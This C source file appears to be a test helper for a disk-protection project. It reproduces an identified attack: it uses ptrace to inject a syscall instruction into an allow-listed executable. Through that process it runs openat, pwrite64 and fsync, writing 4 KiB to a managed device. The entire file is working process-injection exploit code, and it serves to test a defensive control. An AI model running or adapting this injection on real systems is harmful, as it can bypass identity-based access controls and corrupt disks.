/*
 * ag-ptrace-write - borrow an allow-listed executable's identity with ptrace
 * (issue 29's attack) and write a managed disk from inside it.
 *
 *   ag-ptrace-write TARGET_EXE DEVICE OFFSET [ARG...]
 *       Forks; the child asks to be traced (PTRACE_TRACEME) and execs
 *       TARGET_EXE ARG...; at the stop after the exec (before the target's
 *       first instruction) the parent writes a `syscall` instruction over the
 *       entry point (PTRACE_POKETEXT), DEVICE's path and a 4 KiB buffer
 *       ("AGPTRACE" and 'P's) below the child's stack pointer, and runs, one
 *       single step each, openat(AT_FDCWD, DEVICE, O_WRONLY), then
 *       pwrite64(fd, buf, 4096, OFFSET) and fsync(fd) in the child. Prints
 *       "injected <call> = <result>" per call, kills the child, and exits 0
 *       only if the write returned 4096 (the attack landed), 1 otherwise,
 *       2 on a usage or tracing error (nothing was injected).
 *
 *   ag-ptrace-write --seize PID SECONDS
 *       The `strace -p` stand-in: attaches to PID with PTRACE_SEIZE, stops it at
 *       every system call entry and exit for SECONDS, detaches; prints the number
 *       of stops. Exit 0 when it attached and detached.
 *
 * Built statically (tests/vm/initramfs.sh); x86_64 only.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define LEN 4096

static pid_t child;

static void die(const char *what)
{
	fprintf(stderr, "ag-ptrace-write: %s: %s\n", what, strerror(errno));
	if (child > 0)
		kill(child, SIGKILL);
	exit(2);
}

/* Copies len bytes (a multiple of 8) to the child's memory at addr. */
static void poke(unsigned long addr, const void *src, size_t len)
{
	for (size_t i = 0; i < len; i += 8) {
		long w;
		memcpy(&w, (const char *)src + i, 8);
		if (ptrace(PTRACE_POKEDATA, child, addr + i, w) < 0)
			die("PTRACE_POKEDATA");
	}
}

/* Runs one system call in the stopped child at `at` (a syscall instruction),
 * from the registers `base`; returns its result (rax). */
static long inject(const struct user_regs_struct *base, unsigned long at, long nr, long a1, long a2, long a3,
		   long a4)
{
	struct user_regs_struct r = *base;
	int st;
	r.rax = nr;
	r.orig_rax = -1; /* no syscall restart on the way back to user mode */
	r.rdi = a1;
	r.rsi = a2;
	r.rdx = a3;
	r.r10 = a4;
	r.rip = at;
	if (ptrace(PTRACE_SETREGS, child, 0, &r) < 0)
		die("PTRACE_SETREGS");
	if (ptrace(PTRACE_SINGLESTEP, child, 0, 0) < 0)
		die("PTRACE_SINGLESTEP");
	if (waitpid(child, &st, 0) < 0)
		die("waitpid");
	if (!WIFSTOPPED(st)) {
		fprintf(stderr, "ag-ptrace-write: the child ended during the injected call (status 0x%x)\n", st);
		exit(2);
	}
	if (ptrace(PTRACE_GETREGS, child, 0, &r) < 0)
		die("PTRACE_GETREGS");
	return (long)r.rax;
}

static void show(const char *call, long r)
{
	if (r < 0 && r > -4096)
		printf("injected %s = -1 %s (%s)\n", call, strerrorname_np(-r) ? strerrorname_np(-r) : "?",
		       strerror(-r));
	else
		printf("injected %s = %ld\n", call, r);
	fflush(stdout);
}

static int seize(pid_t pid, int seconds)
{
	long stops = 0;
	int st;
	time_t end = time(NULL) + seconds;
	child = -1;
	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0)
		die("PTRACE_SEIZE");
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
		die("PTRACE_INTERRUPT");
	while (time(NULL) < end) {
		if (waitpid(pid, &st, 0) < 0)
			die("waitpid");
		if (!WIFSTOPPED(st)) {
			fprintf(stderr, "ag-ptrace-write: %d ended while traced (status 0x%x)\n", pid, st);
			return 1;
		}
		int sig = WSTOPSIG(st);
		/* syscall stops and the group-stop of PTRACE_INTERRUPT pass no signal on */
		if (sig == (SIGTRAP | 0x80) || (st >> 16) == PTRACE_EVENT_STOP)
			sig = 0;
		stops++;
		if (ptrace(PTRACE_SYSCALL, pid, 0, sig) < 0)
			die("PTRACE_SYSCALL");
	}
	/* stop it once more to detach from a known state */
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
		die("PTRACE_INTERRUPT");
	for (;;) {
		if (waitpid(pid, &st, 0) < 0)
			die("waitpid");
		if (!WIFSTOPPED(st))
			return 1;
		if ((st >> 16) == PTRACE_EVENT_STOP || WSTOPSIG(st) == (SIGTRAP | 0x80))
			break;
		ptrace(PTRACE_SYSCALL, pid, 0, WSTOPSIG(st));
	}
	if (ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
		die("PTRACE_DETACH");
	printf("seized %d for %d s: %ld stops, detached\n", pid, seconds, stops);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "--seize"))
		return seize(atoi(argv[2]), atoi(argv[3]));
	if (argc < 4) {
		fprintf(stderr, "usage: ag-ptrace-write TARGET_EXE DEVICE OFFSET [ARG...]\n"
				"       ag-ptrace-write --seize PID SECONDS\n");
		return 2;
	}
	const char *target = argv[1], *dev = argv[2];
	char *endp;
	long long off = strtoll(argv[3], &endp, 0);
	if (*endp || off < 0) {
		fprintf(stderr, "ag-ptrace-write: OFFSET '%s' is not a byte offset: give a number\n", argv[3]);
		return 2;
	}
	if (strlen(dev) >= LEN - 8) {
		fprintf(stderr, "ag-ptrace-write: DEVICE path too long\n");
		return 2;
	}
	/* the child's argv: TARGET_EXE ARG... */
	char **cargv = calloc(argc - 2, sizeof(char *));
	cargv[0] = (char *)target;
	for (int i = 4; i < argc; i++)
		cargv[i - 3] = argv[i];

	child = fork();
	if (child < 0)
		die("fork");
	if (child == 0) {
		if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0) {
			perror("PTRACE_TRACEME");
			_exit(127);
		}
		execv(target, cargv);
		fprintf(stderr, "ag-ptrace-write: exec %s: %s\n", target, strerror(errno));
		_exit(127);
	}
	int st;
	if (waitpid(child, &st, 0) < 0)
		die("waitpid");
	if (!WIFSTOPPED(st) || WSTOPSIG(st) != SIGTRAP) {
		fprintf(stderr, "ag-ptrace-write: no stop after exec of %s (status 0x%x)\n", target, st);
		return 2;
	}
	struct user_regs_struct regs;
	if (ptrace(PTRACE_GETREGS, child, 0, &regs) < 0)
		die("PTRACE_GETREGS");
	char exe[512] = "?", link[64];
	snprintf(link, sizeof(link), "/proc/%d/exe", child);
	ssize_t n = readlink(link, exe, sizeof(exe) - 1);
	if (n > 0)
		exe[n] = 0;
	printf("traced %d stopped after exec: exe=%s rip=0x%llx\n", child, exe, (unsigned long long)regs.rip);

	/* a syscall instruction over the entry point */
	unsigned long at = regs.rip;
	errno = 0;
	long word = ptrace(PTRACE_PEEKTEXT, child, at, 0);
	if (errno)
		die("PTRACE_PEEKTEXT (the target is not readable by this user?)");
	word = (word & ~0xffffL) | 0x050f; /* 0f 05: syscall */
	if (ptrace(PTRACE_POKETEXT, child, at, word) < 0)
		die("PTRACE_POKETEXT");
	/* the path and the buffer below the stack pointer (inside the stack's
	 * mapping, which the kernel makes 128 KiB deeper than the arguments) */
	unsigned long scratch = ((regs.rsp - 3 * LEN) & ~(unsigned long)(LEN - 1));
	char path[LEN], buf[LEN];
	memset(path, 0, sizeof(path));
	strcpy(path, dev);
	memset(buf, 'P', sizeof(buf));
	memcpy(buf, "AGPTRACE", 8);
	poke(scratch, path, (strlen(dev) + 8) & ~7UL);
	poke(scratch + LEN, buf, LEN);

	char call[LEN + 64];
	long fd = inject(&regs, at, SYS_openat, AT_FDCWD, scratch, O_WRONLY, 0);
	snprintf(call, sizeof(call), "openat(%s, O_WRONLY)", dev);
	show(call, fd);
	long w = -EBADF;
	if (fd >= 0) {
		w = inject(&regs, at, SYS_pwrite64, fd, scratch + LEN, LEN, off);
		snprintf(call, sizeof(call), "pwrite64(%ld, 4096, %lld)", fd, off);
		show(call, w);
		snprintf(call, sizeof(call), "fsync(%ld)", fd);
		show(call, inject(&regs, at, SYS_fsync, fd, 0, 0, 0));
	}
	/* a moment alive: denial events resolve /proc/PID/exe when read */
	usleep(500000);
	kill(child, SIGKILL);
	waitpid(child, &st, 0);
	printf("write %s\n", w == LEN ? "LANDED" : "refused");
	return w == LEN ? 0 : 1;
}
